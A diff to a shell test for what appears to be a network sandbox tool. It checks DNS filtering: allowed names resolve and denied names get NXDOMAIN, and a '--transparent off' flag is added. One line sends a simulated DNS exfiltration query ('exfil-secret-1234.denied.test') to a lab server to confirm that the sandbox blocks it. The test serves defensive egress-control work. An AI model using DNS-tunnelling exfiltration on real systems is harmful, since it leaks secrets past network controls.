@@ -84,7 +84,9 @@ tunnel("allowed.test"); tunnel("denied.test")
 
 	# --- DNS: allowed names resolve, others get NXDOMAIN and never leave
 	lab_logs_clear
-	expect_status 0 "$m: DNS inside" jl "$m" --allow allowed.test -- sh -c '
+	# The forwarder's real answers: --transparent off (with it on, the
+	# default, allowed names get synthetic ones: synthetic-dns.sh).
+	expect_status 0 "$m: DNS inside" jl "$m" --allow allowed.test --transparent off -- sh -c '
 		getent ahostsv4 allowed.test | head -n1
 		if getent hosts denied.test; then echo DENIED-RESOLVED; else echo denied-nxdomain; fi
 		python3 "$0" dns exfil-secret-1234.denied.test A --server=100.64.77.1 --tcp || true' \
